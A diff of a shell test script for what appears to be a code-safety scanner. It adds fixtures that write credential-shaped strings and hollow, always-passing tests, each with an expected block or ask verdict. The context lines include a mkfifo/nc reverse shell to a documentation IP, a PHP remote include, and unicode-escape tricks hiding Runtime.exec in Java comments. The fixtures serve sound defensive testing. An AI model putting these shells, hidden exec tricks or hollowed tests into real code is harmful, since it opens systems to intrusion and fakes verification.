@@ -326,6 +326,17 @@ hostile escape-many 'comment-trick=ask@src/X[.]java comment-trick=ask@src/Y[.]ja
 printf '// \\uuu000a Runtime.getRuntime().exec("x");\n' >src/X.java
 printf '/* \\u002a\\u002f Runtime.getRuntime().exec("x"); /* */\n' >src/Y.java
 EOF
+hostile secret-shapes 'secret=block@src/bot[.]py secret=block@data/azure[.]txt secret-likely=ask@src/basic[.]py secret-likely=ask@src/stripe[.]py' 'keys of a bot and of a store, a password in a header, a key for tests' <<'EOF'
+printf 'BOT = "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw7"\n' >src/bot.py
+printf 'AccountName=x;AccountKey=%s==\n' "$(random64 64 51 | head -c 86)" >data/azure.txt
+printf 'H = {"Authorization": "Basic %s"}\n' "$(printf admin:hunter2x7 | base64)" >src/basic.py
+printf 'K = "sk_test_4eC39HqLyjWDarjtT1zdp7dc"\n' >src/stripe.py
+EOF
+hostile tests-return 'test-hollow=ask@tests/test_a[.]py test-hollow=ask@tests/test_b[.]py test-hollow=ask@tests/test_calc[.]py' 'tests that end before their end, and one that holds always' <<'EOF'
+printf 'def test_a():\n    return\n    assert 1 > 2\n' >tests/test_a.py
+printf 'def test_b():\n    assert add(1, 2) == 4 or 1\n' >tests/test_b.py
+sed -i 's/^def test_add():/&\n    return/' tests/test_calc.py
+EOF
 hostile shells 'remote-shell=block@scripts/a[.]sh remote-shell=block@web/x[.]php remote-shell=block@src/x[.]py' 'shells for somebody elsewhere, as they are usual' <<'EOF'
 printf 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 9 >/tmp/f\n' >scripts/a.sh
 printf '<?php include $_GET["p"];\n' >web/x.php
